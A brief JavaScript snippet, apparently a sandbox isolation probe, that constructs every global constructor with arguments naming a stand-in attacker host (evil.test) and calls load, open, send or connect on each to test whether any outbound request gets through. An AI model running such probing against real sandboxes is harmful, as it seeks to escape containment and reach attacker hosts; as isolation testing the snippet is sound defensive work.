// Everything there is to construct, with an address of the attacker’s.

for (let o = globalThis; o; o = Object.getPrototypeOf(o)) for (const k of Reflect.ownKeys(o)) { let C; try { C = globalThis[k]; } catch { continue; } if (typeof C !== 'function' || k === 'Worker') continue; for (const a of [['http://evil.test/c'], [{ url: 'http://evil.test/c', src: 'http://evil.test/c' }], ['x', 'url(http://evil.test/c)']]) try { const r = Reflect.construct(C, a); for (const m of ['load', 'open', 'start', 'send', 'connect']) try { if (typeof r[m] === 'function') Promise.resolve(r[m]('GET', 'http://evil.test/c')).catch(() => {}); } catch {} } catch {} }
return 'tried';
